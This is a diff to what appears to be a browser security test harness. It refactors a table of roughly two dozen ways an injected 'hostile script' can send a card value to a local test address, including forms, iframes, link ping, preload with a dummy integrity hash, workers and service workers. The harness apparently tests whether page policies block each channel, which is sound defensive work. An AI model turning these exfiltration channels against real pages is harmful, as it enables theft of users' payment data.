@@ -8,6 +8,12 @@ export interface Target {
   readonly address: string
   /** The script itself: the only file of the page's own origin that the hostile code is in. */
   readonly entry: string
+  /** Puts an element with these fields into the page. */
+  add<Name extends keyof HTMLElementTagNameMap>(
+    name: Name,
+    fields: Partial<HTMLElementTagNameMap[Name]>,
+    parent?: Element,
+  ): HTMLElementTagNameMap[Name]
 }
 
 /** Sent to the page as its own text, so nothing outside its braces exists there. */
@@ -32,109 +38,45 @@ export const WAYS_OUT: Readonly<Record<string, WayOut>> = {
   image: ({ address }) => {
     new Image().src = address
   },
-  'script element': ({ address }) => {
-    const script = document.createElement('script')
-    script.src = address
-    document.head.append(script)
-  },
+  'script element': ({ address, add }) => add('script', { src: address }, document.head),
   'dynamic import': ({ address }) => import(address),
-  'stylesheet link': ({ address }) => {
-    const sheet = document.createElement('link')
-    sheet.rel = 'stylesheet'
-    sheet.href = address
-    document.head.append(sheet)
-  },
+  'stylesheet link': ({ address, add }) => add('link', { rel: 'stylesheet', href: address }, document.head),
   'url() in a style rule': ({ address }) => {
     const sheet = new CSSStyleSheet()
     sheet.replaceSync(`body { background: url(${address}) }`)
     document.adoptedStyleSheets = [sheet]
   },
   'font face': ({ address }) => new FontFace('card', `url(${address})`).load(),
-  'video element': ({ address }) => {
-    const video = document.createElement('video')
-    video.src = address
-    document.body.append(video)
-  },
-  'object element': ({ address }) => {
-    const object = document.createElement('object')
-    object.data = address
-    document.body.append(object)
-  },
-  frame: ({ address }) => {
-    const frame = document.createElement('iframe')
-    frame.src = address
-    document.body.append(frame)
-  },
-  'frame with srcdoc': ({ address }) => {
-    const frame = document.createElement('iframe')
-    frame.srcdoc = `<img src="${address}">`
-    document.body.append(frame)
-  },
-  'frame of a blob': ({ address }) => {
-    const frame = document.createElement('iframe')
-    frame.src = URL.createObjectURL(new Blob([`<img src="${address}">`], { type: 'text/html' }))
-    document.body.append(frame)
-  },
-  'form, POST': ({ address }) => {
-    const form = document.createElement('form')
-    form.method = 'post'
-    form.action = address
-    document.body.append(form)
+  'video element': ({ address, add }) => add('video', { src: address }),
+  'object element': ({ address, add }) => add('object', { data: address }),
+  frame: ({ address, add }) => add('iframe', { src: address }),
+  'frame with srcdoc': ({ address, add }) => add('iframe', { srcdoc: `<img src="${address}">` }),
+  'frame of a blob': ({ address, add }) =>
+    add('iframe', { src: URL.createObjectURL(new Blob([`<img src="${address}">`], { type: 'text/html' })) }),
+  'form, POST': ({ address, add }) => add('form', { method: 'post', action: address }).submit(),
+  'form, GET': ({ address, card, add }) => {
+    const form = add('form', { action: address })
+    add('input', { name: 'card', value: card }, form)
     form.submit()
   },
-  'form, GET': ({ address, card }) => {
-    const form = document.createElement('form')
-    const field = document.createElement('input')
-    form.action = address
-    field.name = 'card'
-    field.value = card
-    form.append(field)
-    document.body.append(form)
-    form.submit()
-  },
-  'ping of a link': ({ address }) => {
-    const anchor = document.createElement('a')
-    anchor.href = '#'
-    anchor.ping = address
-    document.body.append(anchor)
-    anchor.click()
-  },
-  'link prefetch': ({ address }) => {
-    const link = document.createElement('link')
-    link.rel = 'prefetch'
-    link.href = address
-    document.head.append(link)
-  },
+  'ping of a link': ({ address, add }) => add('a', { href: '#', ping: address }).click(),
+  'link prefetch': ({ address, add }) => add('link', { rel: 'prefetch', href: address }, document.head),
   // Any hash will do: with one, Integrity-Policy lets the request out.
-  'link preload of a script': ({ address }) => {
-    const link = document.createElement('link')
-    link.rel = 'preload'
-    link.as = 'script'
-    link.crossOrigin = ''
-    link.integrity = `sha384-${'A'.repeat(64)}`
-    link.href = address
-    document.head.append(link)
+  'link preload of a script': ({ address, add }) => {
+    const integrity = `sha384-${'A'.repeat(64)}`
+    add('link', { rel: 'preload', as: 'script', crossOrigin: '', integrity, href: address }, document.head)
   },
-  'link modulepreload': ({ address }) => {
-    const link = document.createElement('link')
-    link.rel = 'modulepreload'
-    link.as = 'script'
-    link.crossOrigin = ''
-    link.integrity = `sha384-${'A'.repeat(64)}`
-    link.href = address
-    document.head.append(link)
+  'link modulepreload': ({ address, add }) => {
+    const integrity = `sha384-${'A'.repeat(64)}`
+    add('link', { rel: 'modulepreload', as: 'script', crossOrigin: '', integrity, href: address }, document.head)
   },
   'audio worklet': ({ address }) => new AudioContext().audioWorklet.addModule(address),
   'worker with importScripts': ({ address }) =>
     new Worker(URL.createObjectURL(new Blob([`importScripts(${JSON.stringify(address)})`]))),
   'service worker': ({ address, entry }) =>
     navigator.serviceWorker.register(`${entry}?to=${encodeURIComponent(address)}`, { type: 'module' }),
-  'meta refresh': ({ address }) => {
-    const meta = document.createElement('meta')
-    meta.httpEquiv = 'refresh'
-    meta.content = `0;url=${address}`
-    document.head.append(meta)
-  },
+  'meta refresh': ({ address, add }) =>
+    add('meta', { httpEquiv: 'refresh', content: `0;url=${address}` }, document.head),
   'top navigation': ({ address }) => {
     window.location.href = address
   },
@@ -159,8 +101,13 @@ export const hostileScript = (ways: Readonly<Record<string, WayOut>>): string =>
       isTried = true
       const port = query.get('port')
       const address = 'http://127.0.0.1:' + port + '/?card=' + card
+      const add = (name, fields, parent = document.body) => {
+        const element = Object.assign(document.createElement(name), fields)
+        parent.append(element)
+        return element
+      }
       try {
-        await ways[query.get('way')]({ card, port, address, entry: import.meta.url })
+        await ways[query.get('way')]({ card, port, address, entry: import.meta.url, add })
       } catch {}
       document.documentElement.dataset.tried = ''
     }, true)
